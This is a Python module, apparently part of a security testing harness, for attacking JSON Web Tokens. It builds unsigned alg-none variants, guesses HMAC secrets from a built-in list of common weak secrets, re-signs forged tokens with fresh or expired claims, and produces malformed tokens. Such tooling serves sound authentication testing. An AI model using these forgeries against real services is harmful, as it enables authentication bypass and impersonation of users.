"""JSON Web Tokens as an attacker handles them (RFC 7519 / RFC 7515): decode, re-sign, strip.

Pure functions with the standard library (HMAC-SHA2 only: the "weak secret" attack applies to HS*
tokens, which is what a guessed shared secret can sign). ``WEAK_SECRETS`` is a short list of the
secrets most often found in the wild (jwt_tool's and hashcat's common-JWT-secret lists start with
the same words); it is small on purpose: the check proves a guessable key, it is not a cracker.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import time
from dataclasses import dataclass
from typing import Any

WEAK_SECRETS = (
    "secret",
    "Secret",
    "SECRET",
    "secret123",
    "secretkey",
    "secret-key",
    "secret_key",
    "jwt",
    "jwt-secret",
    "jwt_secret",
    "jwtsecret",
    "JWT_SECRET",
    "key",
    "mykey",
    "my-secret",
    "mysecret",
    "password",
    "Password",
    "password123",
    "changeme",
    "change-me",
    "changeit",
    "admin",
    "test",
    "testing",
    "dev",
    "development",
    "default",
    "12345",
    "123456",
    "1234567890",
    "qwerty",
    "letmein",
    "your-256-bit-secret",
    "your_jwt_secret",
    "supersecret",
    "super-secret",
    "s3cr3t",
    "token",
    "auth",
    "app",
    "api",
    "example",
    "hello",
    "shhhhh",
    "keyboard cat",
    "HS256",
    "none",
    "",
)
NONE_ALGS = ("none", "None", "NONE")
_HASHES = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}


@dataclass(frozen=True, slots=True)
class Jwt:
    header: dict[str, Any]
    claims: dict[str, Any]
    signing_input: bytes
    signature: bytes

    @property
    def alg(self) -> str:
        return str(self.header.get("alg", ""))


def b64url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def unb64url(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def parse(token: str) -> Jwt | None:
    """The token's parts, or None when it is not a JWS compact serialisation with JSON parts."""
    parts = token.split(".")
    if len(parts) != 3:
        return None
    try:
        header, claims = json.loads(unb64url(parts[0])), json.loads(unb64url(parts[1]))
        signature = unb64url(parts[2])
    except (ValueError, UnicodeDecodeError):
        return None
    if not isinstance(header, dict) or not isinstance(claims, dict):
        return None
    return Jwt(header, claims, f"{parts[0]}.{parts[1]}".encode("ascii"), signature)


def encode(header: dict[str, Any], claims: dict[str, Any], secret: str | None) -> str:
    """A compact JWS; ``secret=None`` leaves the signature empty (alg none)."""
    head = b64url(json.dumps(header, separators=(",", ":")).encode())
    body = b64url(json.dumps(claims, separators=(",", ":")).encode())
    if secret is None:
        return f"{head}.{body}."
    digest = _HASHES[str(header["alg"])]
    signature = hmac.new(secret.encode(), f"{head}.{body}".encode(), digest).digest()
    return f"{head}.{body}.{b64url(signature)}"


def alg_none_variants(token: Jwt) -> list[str]:
    """The token's claims under alg none/None/NONE, unsigned (RFC 7518 §3.6 'Unsecured JWS')."""
    return [encode({**token.header, "alg": alg}, token.claims, None) for alg in NONE_ALGS]


def guess_secret(token: Jwt, candidates: tuple[str, ...] = WEAK_SECRETS) -> int | None:
    """Index in ``candidates`` of the secret the token was signed with, when it is there (offline)."""
    digest = _HASHES.get(token.alg)
    if digest is None:
        return None
    for index, secret in enumerate(candidates):
        expected = hmac.new(secret.encode(), token.signing_input, digest).digest()
        if hmac.compare_digest(expected, token.signature):
            return index
    return None


def forged(token: Jwt, secret: str, *, now: float | None = None, expired: bool = False) -> str:
    """The token's claims re-signed with ``secret``: fresh (iat now) or expired an hour ago."""
    moment = int(time.time() if now is None else now)
    claims = {
        **token.claims,
        "iat": moment - (7200 if expired else 0),
        "exp": moment - 3600 if expired else moment + 3600,
        "jti": f"harness-{moment}",
    }
    return encode(token.header, claims, secret)


def garbled(token: str) -> list[str]:
    """Malformed variants of any bearer token: truncated, one character changed, two parts only.

    The changed character sits ten from the end: the last base64 character may carry only padding
    bits, and changing those would decode to the very same signature.
    """
    at = max(len(token) - 10, 0)
    flipped = token[:at] + ("x" if token[at : at + 1] != "x" else "y") + token[at + 1 :]
    variants = [token[: max(len(token) - 6, 1)], flipped]
    if token.count(".") == 2:
        variants.append(token.rsplit(".", 1)[0])
    return [v for v in variants if v != token]


__all__ = [
    "NONE_ALGS",
    "WEAK_SECRETS",
    "Jwt",
    "alg_none_variants",
    "b64url",
    "encode",
    "forged",
    "garbled",
    "guess_secret",
    "parse",
    "unb64url",
]
